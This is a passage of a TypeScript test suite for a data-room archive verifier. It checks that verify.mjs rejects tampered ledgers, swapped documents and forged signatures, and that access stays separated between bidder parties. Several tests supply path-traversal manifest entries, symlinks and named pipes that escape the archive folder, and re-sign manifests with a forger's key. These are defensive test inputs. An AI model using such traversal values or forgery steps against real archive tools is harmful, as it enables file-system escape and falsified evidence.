    [lines[i], lines[i + 1]] = [lines[i + 1]!, lines[i]!];
    fs.writeFileSync(ledgerPath(dir), `${lines.join('\n')}\n`);
    expectRefused(await runVerify(dir));
  });

  it("refuses the ledger's last line (the archive's own seal) cut off", async () => {
    const dir = unpackCopy(whole);
    const lines = fs.readFileSync(ledgerPath(dir), 'utf8').split('\n').filter(Boolean);
    fs.writeFileSync(ledgerPath(dir), `${lines.slice(0, -1).join('\n')}\n`);
    expectRefused(await runVerify(dir));
  });

  it("refuses two documents' bytes swapped with their manifest entries swapped to match (the signature must fail)", async () => {
    const dir = unpackCopy(whole);
    const [first, second] = documentEntries();
    fs.writeFileSync(path.join(dir, first!.name), second!.data);
    fs.writeFileSync(path.join(dir, second!.name), first!.data);
    const manifestFile = path.join(dir, entry(whole, 'manifest.json').name);
    const text = fs.readFileSync(manifestFile, 'utf8');
    const [a, b] = [sha256(first!.data), sha256(second!.data)];
    fs.writeFileSync(manifestFile, text.split(a).join('\u0000').split(b).join(a).split('\u0000').join(b));
    expect(fs.readFileSync(manifestFile, 'utf8')).not.toBe(text);
    expectRefused(await runVerify(dir));
  });

  it('refuses a manifest that names a file outside the folder or an absolute path, without ever reading it', async () => {
    // A named pipe: a verify.mjs that opens it to hash it hangs, and the run times out.
    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'gatehouse-outside-'));
    unpacked.push(path.join(parent, 'archive'));
    const dir = path.join(parent, 'archive');
    fs.renameSync(unpackCopy(whole), dir);
    const fifo = path.join(parent, 'outside.txt');
    execFileSync('mkfifo', [fifo]);
    const manifestFile = path.join(dir, entry(whole, 'manifest.json').name);
    const manifest = fs.readFileSync(manifestFile, 'utf8');
    const doc = documentEntries()[0]!;
    for (const escape of ['../outside.txt', fifo, `${path.basename(dir)}/../../outside.txt`]) {
      fs.writeFileSync(manifestFile, manifest.split(JSON.stringify(doc.name)).join(JSON.stringify(escape)));
      const run = await runVerify(dir, { timeoutMs: 20_000 });
      expect({ escape, timedOut: run.timedOut }).toEqual({ escape, timedOut: false });
      expectRefused(run);
    }
  }, 90_000);

  it('refuses a document replaced by a symbolic link out of the folder, without following it', async () => {
    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'gatehouse-outside-'));
    unpacked.push(path.join(parent, 'archive'));
    const dir = path.join(parent, 'archive');
    fs.renameSync(unpackCopy(whole), dir);
    const fifo = path.join(parent, 'pipe');
    execFileSync('mkfifo', [fifo]);
    const doc = documentEntries()[0]!;
    fs.rmSync(path.join(dir, doc.name));
    fs.symlinkSync(fifo, path.join(dir, doc.name));
    const run = await runVerify(dir, { timeoutMs: 20_000 });
    expect(run.timedOut).toBe(false);
    expectRefused(run, doc.name);
  }, 60_000);

  it("refuses a manifest re-signed with another key whose public key replaced the archive's: the checkpoints are the server's", async () => {
    const dir = unpackCopy(whole);
    const forger = generateKeyPairSync('ed25519');
    const forgerKeyId = keyIdOf(forger.publicKey);
    fs.writeFileSync(path.join(dir, 'ledger-public-key.pem'), forger.publicKey.export({ format: 'pem', type: 'spki' }));
    const manifest = JSON.parse(entry(whole, 'manifest.json').data.toString('utf8'));
    resign(dir, { ...manifest, keyId: forgerKeyId }, forger.privateKey);
    const run = await runVerify(dir);
    expectRefused(run, 'checkpoints.json');
    expect(run.output).toContain(forgerKeyId);
    expect(run.output).not.toContain(serverKeyId());
  });

  it('prints the forger\'s key id, never the server\'s, for an archive forged throughout (manifest and checkpoints re-signed): counsel compares it', async () => {
    const dir = unpackCopy(whole);
    const forger = generateKeyPairSync('ed25519');
    const forgerKeyId = keyIdOf(forger.publicKey);
    fs.writeFileSync(path.join(dir, 'ledger-public-key.pem'), forger.publicKey.export({ format: 'pem', type: 'spki' }));
    const checkpoints = JSON.parse(fs.readFileSync(path.join(dir, 'checkpoints.json'), 'utf8')) as Array<{ seq: number; headHash: string; at: string; keyId: string; signature: string }>;
    const forged = checkpoints.map((c) => {
      const unsigned = { seq: c.seq, headHash: c.headHash, at: c.at, keyId: forgerKeyId };
      return { ...unsigned, signature: sign(null, Buffer.from(`gatehouse-ledger-checkpoint-v1\n${canonicalJson(unsigned)}`), forger.privateKey).toString('base64') };
    });
    const checkpointsBytes = `${JSON.stringify(forged, null, 2)}\n`;
    fs.writeFileSync(path.join(dir, 'checkpoints.json'), checkpointsBytes);
    const manifest = JSON.parse(entry(whole, 'manifest.json').data.toString('utf8'));
    manifest.files = manifest.files.map((f: { path: string }) => (f.path === 'checkpoints.json' ? { ...f, size: Buffer.byteLength(checkpointsBytes), sha256: sha256(checkpointsBytes) } : f));
    resign(dir, { ...manifest, keyId: forgerKeyId }, forger.privateKey);
    const run = await runVerify(dir);
    // What an archive alone cannot prove: who signed it. The key id is how counsel tells.
    expect(run.output).toContain(forgerKeyId);
    expect(run.output).not.toContain(serverKeyId());
  });

  it('refuses a manifest signed by the server\'s own key that names a file outside the folder, without reading it', async () => {
    // Signed with the real key, so the path is the only thing wrong: verify.mjs must not trust a
    // signed manifest to stay inside its folder.
    const key = loadLedgerKey(t.config.audit);
    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'gatehouse-outside-'));
    unpacked.push(path.join(parent, 'archive'));
    const dir = path.join(parent, 'archive');
    fs.renameSync(unpackCopy(whole), dir);
    const fifo = path.join(parent, 'outside.txt');
    execFileSync('mkfifo', [fifo]);
    const manifest = JSON.parse(entry(whole, 'manifest.json').data.toString('utf8'));
    for (const escape of ['../outside.txt', fifo, 'documents/../../outside.txt']) {
      resign(dir, { ...manifest, files: [...manifest.files, { path: escape, size: 0, sha256: sha256('') }] }, key.privateKey);
      const run = await runVerify(dir, { timeoutMs: 20_000 });
      expect({ escape, timedOut: run.timedOut }).toEqual({ escape, timedOut: false });
      expectRefused(run);
    }
  }, 90_000);
});

describe('an archive while the room is in use', () => {
  it('agrees with itself when documents are uploaded and withdrawn while it is built: index, files and manifest tell one story', async () => {
    const folder = await expectStatus<{ id: string }>(deal.manager.post(`${deal.roomPath}/folders`, { name: `Busy ${randomUUID().slice(0, 8)}` }), 201);
    const upload = async (i: number) =>
      expectStatus<{ id: string }>(
        deal.manager.upload(`${deal.roomPath}/documents`, { data: await makePdf(`busy ${i}`), name: `busy-${i}.pdf` }, {
          folderId: folder.id, entityId: deal.entities.gmbh.id, classification: 'standard', personalData: 'none',
        }),
        201,
      );
    const first = await upload(0);
    const started = startArchive(deal.counsel, deal.roomPath);
    const busy = Promise.all([upload(1), upload(2), upload(3), deal.manager.post(`/api/documents/${first.id}/withdraw`, { reason: 'wrong file' })]);
    const [id] = await Promise.all([started, busy]);
    await readyArchive(deal.counsel, deal.roomPath, id);
    const res = await archiveContent(deal.counsel, deal.roomPath, id);
    const archive: Archive = { id, meta: { status: 'ready', size: res.body.length, sha256: sha256(res.body) }, zip: res.body, entries: await readRawEntries(res.body) };
    const digests = new Set(archive.entries.map((e) => sha256(e.data)));
    const missing = indexRows(archive).filter((row) => !digests.has(row.sha256)).map((row) => row.title);
    expect(missing).toEqual([]);
    const run = await runVerify(unpackCopy(archive));
    expect({ code: run.code, output: run.output }).toEqual({ code: 0, output: expect.any(String) });
  });

  it('builds an archive of a closed room (deal end) that verifies', async () => {
    const room = await expectStatus<{ id: string }>(deal.manager.post('/api/rooms', { name: 'Closing deal', entityIds: [deal.entities.gmbh.id], uploadsStartAs: 'published' }), 201);
    const rp = `/api/rooms/${room.id}`;
    const folder = await expectStatus<{ id: string }>(deal.manager.post(`${rp}/folders`, { name: 'Only folder' }), 201);
    await expectStatus(deal.manager.upload(`${rp}/documents`, { data: await makePdf('closing'), name: 'closing.pdf' }, { folderId: folder.id, entityId: deal.entities.gmbh.id, classification: 'standard', personalData: 'none' }), 201);
    await expectStatus(deal.manager.post(`${rp}/close`), 200);
    const archive = await buildArchive(deal.manager, rp);
    expect(indexRows(archive)).toHaveLength(1);
    expect((await runVerify(unpackCopy(archive))).code).toBe(0);
  });
});

describe('a member who moved from one party to another', () => {
  it("carries nothing of the party they left into the archive of the party they joined: not its documents, downloads, id or events", async () => {
    const r = deal.roomPath;
    const org = (name: string, kind: string) => expectStatus<{ id: string }>(deal.admin.post('/api/orgs', { name, kind }), 201);
    const [gamma, delta, swing] = [await org('Gamma Partners', 'acquirer'), await org('Delta Group', 'acquirer'), await org('Swing Advisory', 'advisor')];
    const partyC = await expectStatus<{ id: string }>(deal.manager.post(`${r}/parties`, { name: 'Bidder C', acquirerOrgId: gamma.id, advisorOrgIds: [swing.id] }), 201);
    const partyD = await expectStatus<{ id: string }>(deal.manager.post(`${r}/parties`, { name: 'Bidder D', acquirerOrgId: delta.id, advisorOrgIds: [swing.id] }), 201);
    const moverUser = await expectStatus<{ id: string; email: string }>(deal.admin.post('/api/users', { email: 'max@swing.example', name: 'Max Mover', password: PASSWORD, orgId: swing.id, role: 'external' }), 201);
    const cFolder = await expectStatus<{ id: string }>(deal.manager.post(`${r}/folders`, { name: 'Gamma data' }), 201);
    const cDoc = await expectStatus<{ id: string; sha256: string }>(
      deal.manager.upload(`${r}/documents`, { data: await makePdf('Gamma only'), name: 'gamma.pdf' }, { folderId: cFolder.id, entityId: deal.entities.gmbh.id, classification: 'standard', personalData: 'none', title: 'GAMMA-ONLY-MARKER terms' }),
      201,
    );
    await deal.grant({ partyId: partyC.id, folderId: cFolder.id, level: 'download' });
    await deal.nda({ orgId: gamma.id, entityIds: [deal.entities.gmbh.id], coversRepresentatives: true });
    await expectStatus(deal.manager.post(`${r}/parties/${partyC.id}/members`, { userId: moverUser.id }), 201);
    const mover = await Client.login(t.app, moverUser.email, PASSWORD);
    const took = await mover.get(`/api/documents/${cDoc.id}/content`).buffer(true).parse(binary);
    expect(took.status).toBe(200);
    await expectStatus(deal.manager.delete(`${r}/parties/${partyC.id}/members/${moverUser.id}`), 204);
    await expectStatus(deal.manager.post(`${r}/parties/${partyD.id}/members`, { userId: moverUser.id }), 201);

    const archive = await buildArchive(deal.counsel, r, { partyId: partyD.id });
    const text = everything(archive);
    const marks: Record<string, string> = {
      "C's party id": partyC.id,
      "C's acquirer": gamma.id,
      "C's document id": cDoc.id,
      "C's document title": 'GAMMA-ONLY-MARKER',
      "the mover's download of C's document": took.headers['x-download-id'] as string,
    };
    expect(Object.entries(marks).filter(([, mark]) => text.includes(mark)).map(([what]) => what)).toEqual([]);
    expect(entriesWithSha(archive, cDoc.sha256)).toEqual([]);
  });
});

describe('a member who left the party', () => {
  it("keeps in the party archive what was delivered to a member who has since left the party (the departing employee's copy)", async () => {
    await expectStatus(deal.manager.delete(`${deal.roomPath}/parties/${deal.parties.A.id}/members/${deal.users.advisorA.id}`), 204);
    const archive = await buildArchive(deal.counsel, deal.roomPath, { partyId: deal.parties.A.id });
    const payroll = indexRows(archive).find((row) => row.documentId === deal.docs.payroll.id);
    expect(payroll).toBeDefined();
    expect(payroll!.downloadIds.split(' ')).toContain(advisorDownloadId);
    expect(everything(archive)).toContain(deal.users.advisorA.id);
  });
});
